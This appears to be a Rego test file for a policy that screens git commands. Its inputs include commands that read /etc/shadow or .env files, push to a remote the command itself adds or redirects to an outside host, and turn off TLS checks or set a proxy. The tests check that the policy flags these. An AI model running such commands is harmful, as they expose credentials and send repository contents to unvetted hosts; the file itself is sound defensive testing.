package bailiff_test

_pushed(setter, words) := _versions([call("git", [], setter), call("git", [], array.concat(["push"], words))]).rules

test_pushing_to_a_remote_that_the_text_sets if {
	_pushed(["remote", "add", "x", "https://x.test/r"], ["x", "main"]) == {"command.sends_files"}
	_pushed(["remote", "set-url", "origin", "https://x.test/r"], []) == {"command.sends_files"}
	_pushed(["config", "remote.origin.pushurl", "https://x.test/r"], []) == {"command.sends_files"}
	_pushed(["remote", "add", "x", "https://x.test/r"], ["origin"]) == set()
	_pushed(["remote", "-v"], []) == set()
}

test_files_that_git_reads_and_sends if {
	_versions([call("git", [], ["diff", "--no-index", "/dev/null", "/etc/shadow"])]).told == {
		"command.reads_credentials: /etc/shadow",
	}
	_versions([call("git", [], ["diff", "main"])]).told == set()
	_versions([call("git", [], ["show", "HEAD~1:.env"])]).told == {"command.reads_credentials: HEAD~1:.env"}
	_versions([call("git", [], ["show", "HEAD:README.md"])]).told == set()
	_versions([call("git", [], ["push", "https://x.test/a.git", "main"])]).told == {
		"command.sends_files: git push https://x.test/a.git main",
	}
	_versions([call("git", [], ["push", "git@x.test:a.git"])]).told == {"command.sends_files: git push git@x.test:a.git"}
	_versions([call("git", [], ["push", "origin", "main"])]).told == set()
	[data.bailiff._remote_name(call("git", [], words)) | some words in [["remote", "add", "x", "u"], ["config", "remote.y.url", "u"]]] == [
		"x",
		"y",
	]
	[data.bailiff._remote_set(words[0], call("git", [], words)) |
		some words in [["remote", "add", "x", "u"], ["config", "remote.y.url", "u"], ["remote", "rm", "x"]]
	] == [
		"u",
		"u",
	]
}

test_settings_that_lead_connections_elsewhere_are_a_question if {
	every setting in [
		"http.proxy=http://x.test", "http.sslVerify=false", "remote.origin.pushurl=https://x.test", "url.https://x.test/.insteadOf=y",
	] {
		_git(["-c"], [setting, "fetch"]) == {"command.redirects_connections"}
	}
	every setting in ["http.proxy=", "http.sslVerify=true", "http.postBuffer=1", "remote.origin.fetch=x"] {
		_git(["-c"], [setting, "fetch"]) == set()
	}
	_git([], ["config", "http.sslVerify", "false"]) == {"command.redirects_connections"}
	_git([], ["config", "remote.origin.url", "https://x.test/y"]) == set()
}
